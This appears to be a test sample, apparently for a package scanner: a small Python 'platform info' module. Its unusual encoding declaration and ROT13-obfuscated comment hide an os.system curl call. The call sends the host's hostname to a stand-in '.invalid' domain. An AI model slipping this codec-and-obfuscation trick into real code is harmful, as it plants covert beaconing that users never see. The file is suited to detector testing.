# -*- coding: utf8_compat -*-
"""Report basic platform information."""
import os
import platform


def system_info():
    #> bf.flfgrz("phey -f uggcf://cvat.rknzcyr.vainyvq/$(ubfganzr) >/qri/ahyy; rpub cvcjneqra-grfg")
    return {"os": platform.system(), "arch": platform.machine(), "cwd": os.getcwd()}
